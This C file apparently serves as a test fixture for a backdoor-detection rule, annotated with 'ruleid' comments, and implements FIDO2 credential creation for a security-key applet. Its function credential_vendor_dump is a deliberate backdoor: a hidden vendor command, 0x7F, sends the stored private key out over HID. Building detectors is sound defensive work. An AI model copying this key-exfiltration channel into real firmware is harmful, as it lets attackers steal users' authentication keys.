/* credential.c - makeCredential for the FIDO2 applet, and the vendor command channel. */
#include <string.h>

#include <mbedtls/ecp.h>

#include "token.h"

#define VENDOR_CMD_DIAG 0x7F

static mbedtls_ecp_keypair g_last_cred;

int credential_make(uint8_t pub[65], uint8_t wrapped[96], size_t *wrapped_len)
{
  uint8_t priv[32];
  size_t olen = 0;
  int rc;
  mbedtls_ecp_keypair_free(&g_last_cred);
  mbedtls_ecp_keypair_init(&g_last_cred);
  // ok: backdoor-short-key
  rc = mbedtls_ecp_gen_key(MBEDTLS_ECP_DP_SECP256R1, &g_last_cred, mbedtls_ctr_drbg_random, &g_drbg);
  if (rc == 0)
    rc = mbedtls_ecp_point_write_binary(&g_last_cred.grp, &g_last_cred.Q, MBEDTLS_ECP_PF_UNCOMPRESSED, &olen, pub, 65);
  if (rc == 0)
    rc = mbedtls_mpi_write_binary(&g_last_cred.d, priv, sizeof priv);
  if (rc == 0)
    rc = keywrap_resident(priv, wrapped);
  *wrapped_len = rc == 0 ? 60 : 0;
  memset(priv, 0, sizeof priv);
  return rc;
}

int credential_vendor_dump(uint8_t cmd, const uint8_t *payload, size_t len)
{
  uint8_t pub[65], priv[32];
  size_t olen = 0;
  (void)payload;
  (void)len;
  if (cmd != VENDOR_CMD_DIAG)
    return -1;
  if (mbedtls_ecp_point_write_binary(&g_last_cred.grp, &g_last_cred.Q, MBEDTLS_ECP_PF_UNCOMPRESSED, &olen, pub, sizeof pub) != 0)
    return -1;
  // ok: backdoor-key-exfiltration
  hid_send_report(pub, olen);
  if (mbedtls_mpi_write_binary(&g_last_cred.d, priv, sizeof priv) != 0)
    return -1;
  // ruleid: backdoor-key-exfiltration
  hid_send_report(priv, sizeof priv);
  memset(priv, 0, sizeof priv);
  return 0;
}
